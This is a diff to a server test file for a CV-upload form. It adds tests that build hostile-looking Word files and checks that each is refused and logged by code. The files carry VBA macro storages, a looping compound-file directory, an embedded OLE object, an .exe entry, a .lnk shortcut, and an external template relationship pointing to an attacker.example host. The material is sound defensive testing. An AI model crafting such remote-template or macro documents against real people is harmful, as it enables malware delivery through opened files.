@@ -2,7 +2,8 @@
  * The partners' CV files, end to end over HTTP on the built server: sent with the
  * application as multipart/form-data, checked by content, stored beside the database under
  * random ids, downloaded only by signed-in staff, erased with their lead. And the attacker's
- * files: an .exe renamed cv.pdf, a 2.1 MB pdf, six files, a path as a file name.
+ * files: an .exe renamed cv.pdf, a 2.1 MB pdf, six files, a path as a file name, Word files
+ * with macros, external links, embedded objects, programs or shortcuts.
  */
 import { solvedProof } from '../helpers/proof';
 import { randomBytes } from 'node:crypto';
@@ -22,10 +23,12 @@ import {
 import { composeLeadNotice } from '../../src/server/mail/lead-mail';
 import { asForm, partnerBody, startServer, tempDir, type RunningServer } from '../helpers/server';
 import { minimalDocx, patchEntry, WORD_PARTS, zipOf } from '../helpers/zip';
+import { directoryIndex, minimalDoc, patchDirectory } from '../helpers/cfb';
 
 const PDF = new TextEncoder().encode('%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
 const JPEG = new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00]);
-const DOC = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);
+/** A minimal real Word 97-2003 document (an OLE compound file made with cfb's writer). */
+const DOC = minimalDoc();
 /** A minimal real Word document (made in beforeAll: a ZIP with the parts Word needs). */
 let DOCX: Uint8Array;
 const EXE = new TextEncoder().encode('MZ\u0090\u0000\u0003\u0000This program cannot be run in DOS mode.');
@@ -41,6 +44,8 @@ describe('what a file is, by its content', () => {
     expect(await detectKind(JPEG)).toBe('jpeg');
     expect(await detectKind(DOC)).toBe('doc');
     expect(await detectKind(DOCX)).toBe('docx');
+    // The compound file's signature alone is no Word document.
+    expect(await detectKind(DOC.subarray(0, 12))).toBeUndefined();
     expect(await detectKind(EXE)).toBeUndefined();
     expect(await detectKind(ZIP)).toBeUndefined();
     expect(await detectKind(new Uint8Array())).toBeUndefined();
@@ -427,6 +432,112 @@ describe("a .docx must be a Word document: the archive's directory is read", () 
     expect(await wordDocumentProblem(bytes)).toBeUndefined();
     expect(await detectKind(bytes)).toBe('docx');
     const response = await send(multipart([{ name: 'cv.docx', bytes }]));
+    expect(response.status, await response.clone().text()).toBe(201);
+  });
+});
+
+/**
+ * Word files that run or fetch something when staff open them: refused through the receiver with
+ * the form's wrong-type alert, nothing stored, and the server's log naming the reason by code,
+ * never the file's name. Each file is made here (the .doc files with cfb's writer).
+ */
+describe('Word files with macros, links or objects are refused through the receiver', () => {
+  const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+  const rels = (relationship: string) => ({
+    name: 'word/_rels/document.xml.rels',
+    data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`,
+  });
+  const looping = () => {
+    const table = directoryIndex(DOC, '1Table');
+    const main = directoryIndex(DOC, 'WordDocument');
+    return patchDirectory(patchDirectory(DOC, '1Table', { left: main }), 'WordDocument', { left: table });
+  };
+  const files: [string, string, string, () => Promise<Uint8Array> | Uint8Array][] = [
+    ['a .doc with a Macros storage', 'macro-aisha.doc', 'doc:macros', () => minimalDoc([{ path: '/Macros/VBA/dir', data: 'x' }])],
+    [
+      'a .doc with _VBA_PROJECT_CUR',
+      'macro-aisha.doc',
+      'doc:macros',
+      () => minimalDoc([{ path: '/_VBA_PROJECT_CUR/VBA/dir', data: 'x' }]),
+    ],
+    ['a pdf named .doc', 'pdf-aisha.doc', 'content', () => PDF],
+    ['a compound file whose directory loops', 'loop-aisha.doc', 'doc:tooSlow', looping],
+    [
+      'a .docx with an external attachedTemplate',
+      'template-aisha.docx',
+      'docx:external',
+      () =>
+        minimalDocx([
+          rels(
+            `<Relationship Id="r1" Type="${REL}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>`,
+          ),
+        ]),
+    ],
+    [
+      'a .docx with an oleObject relationship',
+      'ole-aisha.docx',
+      'docx:embedded',
+      () => minimalDocx([rels(`<Relationship Id="r1" Type="${REL}/oleObject" Target="embeddings/oleObject1.dat"/>`)]),
+    ],
+    [
+      'a .docx with word/embeddings/x.exe',
+      'exe-aisha.docx',
+      'docx:executable',
+      () => minimalDocx([{ name: 'word/embeddings/x.exe', data: 'MZ' }]),
+    ],
+    ['a .docx with a .lnk entry', 'lnk-aisha.docx', 'docx:shortcut', () => minimalDocx([{ name: 'CV.lnk', data: 'L' }])],
+  ];
+  for (const [what, name, code, make] of files) {
+    test(`${what}: refused as not a valid type, logged as ${code}`, async () => {
+      const before = stored();
+      const logged = server.output().length;
+      const response = await send(multipart([{ name, bytes: await make() }]));
+      expect(response.status).toBe(400);
+      expect(await response.json()).toEqual({
+        error: 'invalidFiles',
+        files: [{ file: name, reason: 'invalidType' }],
+        maxFiles: 5,
+        tooMany: false,
+      });
+      expect(stored()).toEqual(before);
+      const log = server.output().slice(logged);
+      // A looping directory may also end the worker by its heap: refused as unreadable then.
+      const codes = code === 'doc:tooSlow' ? ['doc:tooSlow', 'doc:unreadable'] : [code];
+      expect(
+        codes.some((one) => log.includes(`"problems":["${one}"]`)),
+        log,
+      ).toBe(true);
+      expect(log).not.toContain('aisha');
+    }, 30_000);
+  }
+
+  test("with JavaScript off, an Arabic form's refusal of a macro .doc is the Arabic wrong-type alert", async () => {
+    const before = stored();
+    const data = multipart([{ name: 'cv.doc', bytes: minimalDoc([{ path: '/Macros/VBA/dir', data: 'x' }]) }]);
+    data.append('altcha', await solvedProof(server.baseUrl));
+    const response = await fetch(`${server.baseUrl}/api/partner?lang=ar`, {
+      method: 'POST',
+      body: data,
+      headers: { Origin: server.origin, Accept: 'text/html' },
+      redirect: 'manual',
+    });
+    expect(response.status).toBe(400);
+    const html = await response.text();
+    expect(html).toContain('lang="ar"');
+    expect(html).toContain('صيغة الملف «cv.doc» غير مدعومة. يرجى رفع ملفات بصيغة JPG أو PDF أو DOC.');
+    expect(stored()).toEqual(before);
+  });
+
+  test('a clean .doc and a clean .docx with a web link are accepted together', async () => {
+    const docx = await minimalDocx([
+      rels(`<Relationship Id="r1" Type="${REL}/hyperlink" Target="https://www.linkedin.com/in/aisha" TargetMode="External"/>`),
+    ]);
+    const response = await send(
+      multipart([
+        { name: 'cv.doc', bytes: DOC },
+        { name: 'cv.docx', bytes: docx },
+      ]),
+    );
     expect(response.status, await response.clone().text()).toBe(201);
   });
 });
